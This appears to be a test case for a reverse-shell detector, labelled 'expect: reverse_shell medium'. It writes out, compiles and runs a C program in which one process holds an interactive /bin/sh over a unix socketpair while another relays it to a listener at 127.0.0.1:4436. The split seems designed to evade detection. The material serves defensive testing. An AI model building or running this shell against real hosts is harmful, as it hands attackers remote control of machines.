# about: one process holds the connection, another the shell, a unix socket between them
# expect: reverse_shell medium
# needs: python3 gcc
peer 4436
cat >a.c <<'END'
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include <sched.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <fcntl.h>
static struct sockaddr_in at(int port){struct sockaddr_in a={AF_INET,htons(port)};a.sin_addr.s_addr=htonl(0x7f000001);return a;}
static int call(int port){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a=at(port);connect(s,(void*)&a,sizeof a);return s;}
int main(){int p[2];socketpair(AF_UNIX,SOCK_STREAM,0,p);if(!fork()){for(int i=0;i<3;i++)dup2(p[1],i);close(p[0]);execl("/bin/sh","sh","-i",NULL);}close(p[1]);int s=call(4436);char b[4096];int n;if(!fork()){while((n=read(p[0],b,sizeof b))>0)write(s,b,n);_exit(0);}while((n=read(s,b,sizeof b))>0)write(p[0],b,n);}
END
gcc -w -o a a.c -lpthread
./a || true
done_typing
